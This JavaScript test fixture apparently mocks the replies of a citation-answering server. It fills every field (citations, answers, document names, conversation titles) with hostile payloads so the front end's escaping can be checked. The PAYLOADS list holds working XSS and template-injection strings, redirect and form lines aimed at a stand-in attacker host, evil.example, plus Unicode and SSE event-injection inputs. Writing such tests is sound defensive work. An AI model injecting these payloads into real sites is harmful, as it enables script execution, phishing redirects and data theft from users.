// Replies of a server that has hostile words in every field, for the tests.

const LONG = 'W'.repeat(3000);

export const PAYLOADS = [
  '<script>window.hit = 1; alert(1)</script>',
  '<img src=x onerror="window.hit = 1; alert(1)">',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '</textarea></title><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{@html "<img src=x onerror=alert(1)>"} {{constructor.constructor("alert(1)")()}}',
  '${alert(1)} #{alert(1)} <%= alert(1) %>',
  '<style>*{display:none}</style><link rel=stylesheet href=//evil.example/a.css>',
  '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example><input name=q autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '\u202eright to left\u202c \u2066isolated \u200b\u200d\ufeff zero',
  '[1][2][99] [1]: //evil.example ![x](//evil.example/x.png)',
  '\u0000\u001b[31m\r\n\r\nevent: answer\ndata: {}\n\n',
  LONG,
  `${'a\u0301'.repeat(400)} ${'\u{1F468}\u200d\u{1F469}\u200d\u{1F467}'.repeat(200)}`,
];

const id = '00000000-0000-4000-8000-000000000007';
const sha = '0'.repeat(64);

function citation(payload) {
  return {
    marker: 1,
    source_id: `${id}:0`,
    document_id: id,
    document_name: payload,
    version: 1,
    updated_at: '2026-01-01T00:00:00Z',
    chunk_index: 0,
    page_number: 3,
    section: payload,
    relevance_score: 0.9,
    snippet: payload,
    snippet_full: payload || 'x',
    span: { start: 0, end: Array.from(payload).length },
    document_sha256: sha,
    address: payload,
    collection: payload,
    file: payload,
    link: 'javascript:alert(1)',
    status: payload,
    replaced_by: [payload],
  };
}

function answer(payload, refused) {
  const text = `${payload} [1] ${payload}`;
  return {
    request_id: id,
    action: refused ? 'refuse' : 'cite',
    rewritten_question: payload,
    answer: refused ? payload : text,
    refused,
    refusal_reason: refused ? payload : null,
    why: refused ? `${payload}.` : null,
    nearest: refused
      ? [{ source_id: `${id}:0`, version: 1, title: payload, section: payload, address: payload, why: payload }]
      : [],
    reason: refused ? 'not_answered' : null,
    citations: refused ? [] : [citation(payload)],
    confidence: null,
    retrieval_quality: {
      confidence_score: 0.5,
      confidence_level: 'low',
      fallback_active: true,
      fallback_reasons: ['extractive', payload],
      degraded: true,
    },
    transparency: { statement: payload, show_to_user: true },
    route_to: refused ? { tag: payload, owner_email: payload, reason: payload, fallback: false } : null,
    suggestions: refused ? [`${payload}?`, payload] : [],
    warnings: [payload],
    model_used: payload,
    context_chunks_used: 1,
    context_tokens_used: 1,
    generation_time_ms: 1,
    grounded: true,
    trace: [{ gate: payload, verdict: 'stop', observed: 0.1, threshold: 0.2 }],
    receipt: null,
  };
}

export function stream(payload, { query }) {
  const refused = query === 'refuse';
  const event = (name, data) => `event: ${name}\ndata: ${JSON.stringify(data)}\n\n`;
  const sentence = refused ? '' : event('sentence', { text: `${payload} [1] `, citations: [citation(payload)] });
  return {
    contentType: 'text/event-stream',
    body: `${sentence}: alive\n\n${event('answer', answer(payload, refused))}`,
  };
}

export function document(payload) {
  return {
    json: {
      document_id: id,
      version: 1,
      document_name: payload,
      address: payload,
      collection: payload,
      kind: payload,
      file: payload,
      format: payload,
      updated_at: '2026-01-01T00:00:00Z',
      status: payload,
      replaced_by: [payload],
      valid_from: null,
      valid_to: null,
      passages: 1,
      text: payload || 'x',
      document_sha256: sha,
      original: payload,
    },
  };
}

export function conversations(payload) {
  const one = { id, title: payload, created_at: '2026-01-01T00:00:00Z', changed_at: '2026-01-01T00:00:00Z', turns: 1 };
  return { json: { conversations: [one], next: null } };
}
